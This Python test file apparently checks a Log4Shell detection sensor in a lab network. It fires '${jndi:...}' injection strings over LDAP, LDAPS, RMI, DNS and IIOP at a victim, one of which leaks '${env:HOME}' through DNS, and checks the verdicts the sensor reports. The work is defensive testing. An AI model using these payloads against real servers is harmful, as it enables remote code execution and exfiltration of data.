#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""stories.py SENSOR CLASSES: whole attacks by real programs, one per callback protocol and verdict, and what only looks
like one, each amid what hosts do all day. Each attack is one incident with its verdict, its stages and nothing more; what is
none makes none.

The victim is a JDK with Log4j's own substitution, as in the tests beside this one. Each row has a sensor of its own: a second
attack on the same callback is, rightly, the same incident.
"""
import sys

import lab

SERVER = "ldap://%s:1389/" % lab.ATTACKER
PARTNER = lab.SOURCES[0]  # somebody else's servers, that the victim uses every day
LISTENER = """
import socket
server = socket.create_server(("%s", 4444))
while True:
    peer, _ = server.accept()
    peer.recv(100)
    peer.sendall(b"!")
    peer.close()
""" % lab.ATTACKER


def noise(victim):
    """A page, a class of one's own, names, a directory: all of other hosts than the attacker's."""
    lab.request("Mozilla/5.0 (X11; Linux x86_64)", source=lab.SOURCES[1])
    for command in ("get http://%s:8000/index.txt" % PARTNER, "load http://%s:8000/ Payload" % PARTNER,
                    "get http://text.other.example:8000/"):
        victim.ask(command)
    lab.run("vic", "curl", "-s", "-o", "/dev/null", "http://%s:8000/index.txt" % PARTNER, check=False)


def ask(text):
    return lambda victim: lab.request("Mozilla/5.0 ${jndi:%s}" % text)


def log(text):
    """A datagram for a port where nobody listens: tried, and no more."""
    def send(_):
        with lab.Space("atk"), lab.socket.socket(lab.socket.AF_INET, lab.socket.SOCK_DGRAM) as out:
            out.bind((lab.SOURCES[2], 0))
            out.sendto(("<13>Dec 10 10:00:00 app login: ${jndi:%s}" % text).encode(), (lab.VICTIM, 514))
    return send


def both(*deeds):
    return lambda victim: [deed(victim) for deed in deeds]


def on_victim(*command):
    """Somebody who is logged in there looks at it."""
    return lambda _: lab.run("vic", *command, check=False)


def corba(_):
    """No JDK of today has IIOP. omniORB's client says what an old one would."""
    lab.run("vic", "nameclt", "-ORBInitRef", "NameService=corbaloc:iiop:1.2@%s:2809/NameService" % lab.ATTACKER, "list", check=False)


# Name, what is done, the verdict ("": no incident), stages that must be there. Connections are judged apart, and may be.
ATTACKS = [
    ("ldap, nobody logs it", log(SERVER + "a"), "attempted", "lookup"),
    ("ldap, the port is closed", ask("ldap://%s:1390/a" % lab.ATTACKER), "vulnerable", "lookup connection"),
    ("ldap, no such entry", ask(SERVER + "cn=missing,dc=lab"), "vulnerable", "lookup callback"),
    ("ldap, a reference", ask(SERVER + "cn=remote,dc=lab"), "delivered", "lookup callback reference class_delivery"),
    ("ldap, by a name", ask("ldap://host.evil.example:1389/cn=remote,dc=lab"), "delivered",
     "lookup resolution callback reference class_delivery"),
    ("ldap, an object", ask(SERVER + "cn=parcel,dc=lab"), "delivered", "lookup callback deserialization"),
    ("ldap, a factory that is there", ask(SERVER + "cn=local,dc=lab"), "delivered", "lookup callback reference"),
    ("ldap, the payload calls home", ask(SERVER + "cn=knock,dc=lab"), "compromised",
     "lookup callback reference class_delivery second_stage"),
    ("ldaps, a reference", ask("ldaps://ldap.evil.example:1636/cn=remote,dc=lab"), "delivered", "lookup resolution callback class_delivery"), # a JDK's hello
    ("ldaps, the port is closed", ask("ldaps://%s:1637/a" % lab.ATTACKER), "vulnerable", "lookup connection"),
    ("rmi, no such name", ask("rmi://%s:1099/missing" % lab.ATTACKER), "vulnerable", "lookup callback"),
    ("rmi, a reference", ask("rmi://%s:1099/remote" % lab.ATTACKER), "delivered", "lookup callback reference class_delivery"),
    ("rmi, the payload calls home", ask("rmi://%s:1099/knock" % lab.ATTACKER), "compromised",
     "lookup callback reference class_delivery second_stage"),
    ("dns, asked", ask("dns://%s/x.evil.example" % lab.ATTACKER), "vulnerable", "lookup callback"),
    ("dns, a value in the name", ask("dns://%s/${env:HOME}-x.evil.example" % lab.ATTACKER), "vulnerable", "lookup callback resolution"),
    ("iiop, nobody follows", ask("iiop://%s:2809/a" % lab.ATTACKER), "attempted", "lookup"),
    ("iiop, followed", both(ask("iiop://%s:2809/a" % lab.ATTACKER), corba), "vulnerable", "lookup connection"),
]
NONE = [
    ("nothing but noise", lambda victim: None, "", ""),
    ("an analyst's curl", both(log(SERVER + "a"), on_victim("curl", "-s", "--max-time", "2", "http://%s:1389/a" % lab.ATTACKER)),
     "attempted", "lookup"),
    ("an analyst's curl of the class", both(log(SERVER + "a"), on_victim("curl", "-s", lab.WEB + "Payload.class", "-o", "/dev/null")),
     "attempted", "lookup"),
    ("a scheme that no JDK knows", ask("LDAP://%s:1389/cn=remote,dc=lab" % lab.ATTACKER), "", ""),
]


def incidents(alerts):
    """{id: (verdict, stages)}, as last told, without those of the test's own marks."""
    found = {}
    for alert in alerts:
        incident = lab.facts(alert).get("incident")
        if not incident or "192.0.2.1" in lab.facts(alert).get("lookup", ""):
            continue
        stages = found.get(incident["id"], ("", set()))[1] | {lab.facts(alert)["stage"]}
        stages |= {mark["stage"] for mark in incident.get("stages", [])}
        found[incident["id"]] = (incident["verdict"], stages)
    return found


def judge(sensor, victim, row):
    name, deed, verdict, stages = row
    noise(victim)
    deed(victim)
    noise(victim)
    sensor.settled()
    sensor.stop()
    alerts = sensor.alerts()
    found = incidents(alerts)
    wanted = set(stages.split()) - {"connection"}
    if "connection" in stages:
        wanted.add("connection")
    ends = [end for end, _ in found.values()]
    assert ends == ([verdict] if verdict else []), "%s: incidents %s\n%s" % (name, found, lab.listing(alerts)[:3000])
    for _, seen in found.values():
        assert seen - {"connection"} == wanted - {"connection"} and ("connection" not in wanted or "connection" in seen), \
            "%s: stages %s, not %s\n%s" % (name, sorted(seen), sorted(wanted), lab.listing(alerts)[:3000])
    loud = [a for a in alerts if verdict in ("", "attempted") and a["alert"]["severity"] < 2]
    assert not loud, "%s: louder than an attempt\n%s" % (name, lab.listing(loud))
    print("%s: %s, %s" % (name, verdict or "nothing", ", ".join(sorted(seen for _, s in found.values() for seen in s))))


def main():
    program, classes = sys.argv[1:3]
    lab.enter("curl", "slapd", "slapadd", "openssl", "dnsmasq")
    lab.need_java()
    lab.build_network()
    peers = lab.Peers(classes, registry=True, names=True)
    lab.start("atk", sys.executable, "-c", LISTENER)
    lab.start("atk", sys.executable, "-m", "http.server", "8000", "--bind", PARTNER, "-d", lab.WORK / "www")
    rows = ATTACKS + NONE
    if lab.shutil.which("omniNames") and lab.shutil.which("nameclt"):
        (lab.WORK / "corba").mkdir()
        lab.start("atk", "omniNames", "-start", "2809", "-logdir", lab.WORK / "corba", "-ORBendPoint", "giop:tcp:%s:2809" % lab.ATTACKER)
        lab.until("the naming service", lambda: lab.listening("atk", 2809))
    else:
        rows = [row for row in rows if row[1] is not corba and "followed" not in row[0]]
        print("iiop is not followed: omniORB's programs are not installed (omniorb-nameserver, omniorb)")
    lab.until("the listeners", lambda: lab.listening("atk", 4444))
    only = sys.argv[3:]
    for row in rows:
        if only and not any(word in row[0] for word in only):
            continue
        judge(lab.Sensor(program, "workers: 2", "-s", lab.TOP / "rules/incidents.rules"), peers.victim, row)


if __name__ == "__main__":
    main()
